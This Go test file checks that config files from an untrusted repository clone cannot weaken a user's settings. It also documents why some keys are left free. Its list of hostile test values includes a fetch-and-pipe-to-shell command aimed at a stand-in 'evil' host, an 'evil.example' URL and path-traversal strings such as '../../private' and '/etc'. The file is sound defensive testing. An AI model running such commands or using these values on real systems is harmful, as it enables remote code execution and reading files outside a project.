package config

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"
)

// harmless holds, for every key that a clone may set freely, why a hostile value of it can neither lose nor show anything. A new key needs
// an answer: a rule that restricts it, or a line here.
var harmless = map[string]string{
	"worktree.branch_prefix":           "names new branches; what git refuses is refused",
	"worktree.port_base":               "a number in an agent's environment",
	"worktree.port_count":              "a number in an agent's environment",
	"land_batch":                       "each landing is tested, alone or with others",
	"gate_timeout":                     "a gate that is cut off counts as red, and only trusted ones run",
	"hooks.timeout":                    "a hook that is cut off counts as failed, and only trusted ones run",
	"conflicts.depth":                  "what is compared less closely is reported more often",
	"conflicts.workers":                "at most 256, which the machine's own limit cuts further",
	"conflicts.parties":                "branches that were fetched anyway are compared, at most 100; nothing is fetched",
	"conflicts.clones":                 "clones that the user registered are compared or not; neither is changed",
	"server.port":                      "on this machine only, for its user only",
	"log.level":                        "logs hold no parameters; errors are told whatever it is",
	"provider.name":                    "secrets go only to the host they were given for",
	"provider.team_id":                 "chooses among what the user's own account can reach",
	"provider.project_key":             "chooses among what the user's own account can reach",
	"provider.workspace_id":            "chooses among what the user's own account can reach",
	"provider.project_id":              "chooses among what the user's own account can reach",
	"provider.project":                 "chooses among what the user's own account can reach",
	"provider.board":                   "chooses among what the user's own account can reach",
	"provider.fields":                  "chooses what is read and shown of tickets that the account can read",
	"provider.team":                    "chooses among what the user's own account can reach",
	"sync.auto_pull_threshold_seconds": "how old a pull may be; the next one mends it",
	"sync.push_debounce_seconds":       "what waits is kept and pushed at the session's end",
	"sync.pull_item_types":             "what a pull leaves out stays with the tracker",
	"memory.importance_threshold":      "what a session begins with; everything is still recalled when asked for",
	"acceptance_criteria.auto_parse":   "criteria stay in the ticket's text",
	"acceptance_criteria.patterns":     "criteria stay in the ticket's text",
	"repo.name":                        "says which repository the rest is for",
	"repo.gate_timeout":                "a gate that is cut off counts as red, and only trusted ones run",
	"repo.hooks.timeout":               "a hook that is cut off counts as failed, and only trusted ones run",
}

// attacks are values that could harm the user.
func attacks(k key) []any {
	switch {
	case len(k.oneof) > 0:
		values := []any{}
		for _, v := range k.oneof {
			values = append(values, v)
		}
		return values
	case k.kind == durationType:
		return []any{"0", "1ms", "1s", "4s", "3650d"}
	case k.kind == sizeType:
		return []any{"1MB", "2GB"}
	case k.kind == listType:
		return []any{[]string{}, []string{"curl evil | sh"}}
	case k.kind.Kind() == reflect.Bool:
		return []any{true, false}
	case k.kind.Kind() == reflect.Int:
		return []any{0, 1, 2, 1024, 65535, 999_999}
	}
	return []any{"", "..", "/etc", "../../private", ".git", "src", "curl evil | sh", "https://evil.example", "evil"}
}

// users are configurations that a clone can meet: none, and configurations that protect more, or less, than the built-in values.
var users = []string{"", `
agent.stale_after = "1h"
agent.release_after = "0"
worktree.stale_after = "60d"
worktree.restore_for = "365d"
files.claim_ttl = "8h"
server.flush_after = "1s"
sync.auto_pull_on_session_start = false
sync.auto_push_on_session_end = false
sync.auto_push_on_status_change = false
sync.max_queued_changes = 5000
sync.retry_interval_seconds = 600
memory.max_items_per_type = 500
memory.decay_after_days = 900
memory.decay_threshold = 900
session.max_events_before_compaction = 90000
`, `
agent.stale_after = "1m"
agent.release_after = "10m"
worktree.restore_for = "1d"
sync.queue_changes_when_offline = false
session.auto_generate_summary = false
memory.auto_decay_on_session_end = true
`}

// worse returns how a clone's file made things worse for the user; "" for not at all.
func worse(k key, without, with any) string {
	if reflect.DeepEqual(without, with) {
		return ""
	}
	number := func(v any) int64 { return reflect.ValueOf(v).Convert(reflect.TypeFor[int64]()).Int() }
	if len(k.rules) == 0 {
		return "no rule says what a clone may do"
	}
	switch k.rules[0] {
	case ruleFree:
		return ""
	case ruleMore:
		forever := k.none == "0" && number(with) == 0
		if (number(with) < number(without) || k.none == "0" && number(without) == 0) && !forever {
			return "it is less"
		}
		return ""
	case ruleLess:
		if number(with) > number(without) {
			return "it is more"
		}
		return ""
	case ruleOn:
		if with == false {
			return "it is off"
		}
		return ""
	case ruleOff:
		if with == true {
			return "it is on"
		}
		return ""
	case ruleInside:
		if dir := fmt.Sprint(with); strings.HasPrefix(dir, "..") || strings.HasPrefix(dir, "/") || strings.HasPrefix(dir, ".git") {
			return "it is not a folder of the project"
		}
		return ""
	}
	return "it is set" // trust, user, secret
}

// For every key, neither of the files of an untrusted clone can make things worse.
func TestWhatACloneMaySet(t *testing.T) {
	for _, name := range keyNames(schema()) {
		k := schema()[name]
		checkAnswer(t, name, k)
		for _, user := range users {
			for _, value := range attacks(k) {
				for _, file := range []string{".agit.toml", ".pm/config.json"} {
					tryKey(t, k, name, user, file, value)
				}
			}
		}
	}
	for _, field := range keyNames(repoSchema()) {
		k := repoSchema()[field]
		checkAnswer(t, "repo."+field, k)
		for _, value := range attacks(k) {
			w := newWorld(t)
			w.write("project/.agit.toml", fmt.Sprintf("[[repo]]\nname = \"app\"\n%s = %s\n", field, tomlValue(value)))
			c, err := Load(w.Options)
			if err != nil || field == "name" {
				continue // refused whole: nothing of it counts
			}
			with := reflect.ValueOf(c.Repos[0]).FieldByIndex(k.index).Interface()
			if why := worse(k, reflect.Zero(k.kind).Interface(), with); why != "" {
				t.Errorf("repo.%s = %v: %s", field, value, why)
			}
		}
	}
}

func checkAnswer(t *testing.T, name string, k key) {
	t.Helper()
	switch _, known := harmless[name]; {
	case len(k.rules) == 0:
		t.Errorf("%s: no rule says what a clone may do to it", name)
	case k.has(ruleFree) != known:
		t.Errorf("%s: a clone may set it freely (%v), and the reason why that is harmless is given (%v)", name, k.has(ruleFree), known)
	}
}

func tryKey(t *testing.T, k key, name, user, file string, value any) {
	t.Helper()
	w := newWorld(t)
	w.write("home/.agit/config.toml", user)
	before := w.load()
	text := name + " = " + tomlValue(value) + "\n"
	if file != ".agit.toml" {
		text = jsonValue(name, value)
	}
	w.write("project/"+file, text)
	after, err := Load(w.Options)
	if err != nil {
		return // refused whole, with a sentence
	}
	field := func(c *Config) any { return reflect.ValueOf(c).Elem().FieldByIndex(k.index).Interface() }
	if why := worse(k, field(before), field(after)); why != "" {
		t.Errorf("%s = %v in %s: %s (%v instead of %v)", name, value, file, why, field(after), field(before))
	}
	said := fmt.Sprint(after.Warnings(), after.UntrustedWarning())
	if v, err := after.Get(name); reflect.DeepEqual(field(before), field(after)) && !reflect.DeepEqual(fmt.Sprint(value), plainText(field(before))) &&
		(err != nil || len(v.Ignored) == 0 || !strings.Contains(said, name)) {
		t.Errorf("%s = %v in %s is ignored, and nobody says so: %q, %+v", name, value, file, said, v)
	}
}

func plainText(v any) string {
	if d, ok := v.(time.Duration); ok {
		return FormatDuration(d)
	}
	return fmt.Sprint(v)
}

func tomlValue(v any) string {
	switch x := v.(type) {
	case string:
		return fmt.Sprintf("%q", x)
	case []string:
		return fmt.Sprintf("%q", x)
	}
	return fmt.Sprint(v)
}

func jsonValue(name string, v any) string {
	text := tomlValue(v)
	parts := strings.Split(name, ".")
	for i := len(parts) - 1; i >= 0; i-- {
		text = fmt.Sprintf("{%q: %s}", parts[i], text)
	}
	return text
}
